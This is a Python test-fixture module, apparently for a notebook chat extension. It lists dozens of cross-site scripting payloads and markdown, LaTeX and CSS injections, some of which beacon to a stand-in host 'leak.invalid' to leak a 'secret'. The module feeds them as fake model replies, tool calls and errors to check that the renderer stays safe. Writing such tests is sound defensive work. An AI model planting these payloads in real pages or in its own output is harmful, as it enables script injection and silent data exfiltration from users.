"""Texts that would run code in a notebook, or call home from it, if they were shown as anything but text."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING

from tests.faults import LINES, chunk
from tests.faults.connection import EndError

if TYPE_CHECKING:
    from tests.faults.connection import Connection

RUNS = "window.canary='ran'"
HOME = "http://leak.invalid"
_DARK = json.dumps({"theme": "JupyterLab Dark"})

PAYLOADS = (
    # what runs by itself
    f"<script>{RUNS}</script>",
    f"<ScRiPt src={HOME}/x.js></sCrIpT>",
    f'<img src=x onerror="{RUNS}">',
    f"<img src=x onerror={RUNS}//",
    f"<svg onload={RUNS}></svg>",
    f"<svg><script>{RUNS}</script></svg>",
    f'<svg><animate onbegin="{RUNS}" attributeName=x dur=1s></svg>',
    f'<details open ontoggle="{RUNS}"><summary>x</summary></details>',
    f'<iframe srcdoc="<script>parent.{RUNS[7:]}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUNS[7:]}"></iframe>',
    f'<input autofocus onfocus="{RUNS}">',
    f'<body onload="{RUNS}">',
    f'<video src=x onerror="{RUNS}"></video>',
    f'<audio src=x onerror="{RUNS}"></audio>',
    f'<marquee onstart="{RUNS}">x</marquee>',
    f'<object data="javascript:{RUNS}"></object>',
    f'<embed src="javascript:{RUNS}">',
    f'<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUNS}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUNS}>">',
    f"</div></td></table></details><script>{RUNS}</script>",
    f"<![CDATA[<img src=x onerror={RUNS}>]]><!--><img src=x onerror={RUNS}>-->",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;<scr\x00ipt>{RUNS}</scr\x00ipt>",
    f'```html"onmouseover="{RUNS}\n<script>{RUNS}</script>\n```',
    f"`</code><script>{RUNS}</script>`",
    f"$</span><img src=x onerror={RUNS}>$ and \\(</p><script>{RUNS}</script>\\)",
    f"\x1b]8;;javascript:{RUNS}\x1b\\link\x1b]8;;\x1b\\ \x1b[31m<script>{RUNS}</script>",
    # what waits for a click or the mouse
    f"[x](javascript:{RUNS})",
    f"[x](JaVaScRiPt&colon;{RUNS}) [y](&#106;avascript:{RUNS}) <javascript:{RUNS}>",
    f"[x](data:text/html,<script>{RUNS}</script>) [y](vbscript:{RUNS})",
    f"[x](https://good.example 'title\"onmouseover={RUNS}')",
    f"[x]: javascript:{RUNS}\n\n[x]",
    f'<a href="javascript:{RUNS}" target=_self>x</a>',
    f'<form action="javascript:{RUNS}"><button data-target>send</button></form>',
    f"<button data-commandlinker-command='apputils:change-theme' data-commandlinker-args='{_DARK}'>x</button>",
    f"$\\href{{javascript:{RUNS}}}{{x}}$ $$\\style{{background:url({HOME}/style)}}{{x}}$$",
    "<a id=jupyterapp href=x>x</a><form name=canary><input name=x></form>",
    # tags that are allowed without attributes, comments, bare links and formulas
    f"<b onmouseover={RUNS}>x</b> <br/onload={RUNS}> <sub style='background:url({HOME}/sub)'>x</sub><kbd><b></kbd></b></div>",
    f"<details ontoggle={RUNS} open>\n<summary onclick={RUNS}>x</summary>\n<details>\n<img src=x onerror={RUNS}>\n</details>",
    f"<!-- --!><img src=x onerror={RUNS}> -->\n<!--\n--><script>{RUNS}</script>\n<!--><svg onload={RUNS}>-->",
    f"https://good.example/\"onmouseover=\"{RUNS} www.good.example/'onclick='{RUNS} javascript://x/%0a{RUNS}",
    f"| `<script>|{RUNS}</script>` | $<img|src=x onerror={RUNS}>$ |\n|---|---|\n| <b>a | <i onclick={RUNS}>b</b> |",
    f"\\begin{{pmatrix}}</p><script>{RUNS}</script>\\end{{pmatrix}} \\eqref{{<img src=x onerror={RUNS}>}}",
    f"<think>\n<img src=x onerror={RUNS}></think>- [ ] <input autofocus onfocus={RUNS}>",
    # what calls home by itself
    f"![x]({HOME}/picture.png?q=secret)",
    "![x](//leak.invalid/relative.png) ![y](HTTP://leak.invalid/upper.png)",
    f"![x][1]\n\n[1]: {HOME}/reference.png",
    f"[![x]({HOME}/inner.png)](https://good.example)",
    f'<img src="{HOME}/img.png"><img srcset="{HOME}/set.png 2x"><picture><source srcset={HOME}/p></picture>',
    f"<style>@import '{HOME}/a.css'; body {{ background: url({HOME}/b) }}</style>",
    f"<link rel=stylesheet href={HOME}/c.css><link rel=prefetch href={HOME}/d>",
    f'<div style="background:url({HOME}/e)">x</div><table background="{HOME}/f"><tr><td>x</table>',
    f"<meta http-equiv=refresh content='0;url={HOME}/g'><base href={HOME}/>",
    f"<video poster={HOME}/h autoplay><source src={HOME}/i></video><input type=image src={HOME}/j>",
    f"$\\includegraphics{{{HOME}/k}}$ $\\require{{{HOME}/l}}$ <svg><image href={HOME}/m /><use href={HOME}/n#x /></svg>",
    f'```mermaid\ngraph TD; A[<img src={HOME}/o>] --> B\nclick A href "{HOME}/p"\n```',
)


@dataclass
class Telling:
    """A step that ends a connection with the next of these answers."""

    left: Iterator[bytes]

    def run(self, connection: Connection) -> None:
        """Do it."""
        connection.send(next(self.left))
        raise EndError


def answers() -> Iterator[bytes]:
    """Yield one payload after another: as thoughts, as text, and as the reason of the end."""
    for text in itertools.cycle(PAYLOADS):
        lines = [chunk("", message={"role": "assistant", "content": "", "thinking": text}), chunk(text)]
        yield LINES + b"".join(lines) + _end(text)


def refusals() -> Iterator[bytes]:
    """Yield one payload after another as the reason why a request is refused."""
    for text in itertools.cycle(PAYLOADS):
        body = json.dumps({"error": text}).encode()
        yield b"HTTP/1.1 400 Bad\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body)


def calls() -> Iterator[bytes]:
    """Yield one payload after another as name, value and name of a value in calls of functions; every other answer is a word."""
    for text in itertools.cycle(PAYLOADS):
        made = {text: {}, "echo": {"text": text}, "fail": {"text": text}, "add": {text: 1}}
        written = [{"function": {"name": name, "arguments": arguments}} for name, arguments in made.items()]
        yield LINES + chunk("", message={"role": "assistant", "content": text, "tool_calls": written}) + _end()
        yield LINES + chunk("done") + _end()


def data() -> Iterator[bytes]:
    """Yield one payload after another in rows of data that come one by one, and then as what is no data at all."""
    for text in itertools.cycle(PAYLOADS):
        rows = [json.dumps({text: text, "b": text}) for _ in range(2)]
        yield LINES + chunk(f"[{rows[0]}, ") + chunk(f"{rows[1]}]") + _end()
        yield LINES + chunk(text) + _end()


def _end(reason: str = "stop") -> bytes:
    return chunk(done=True, done_reason=reason, prompt_eval_count=1, eval_count=1)
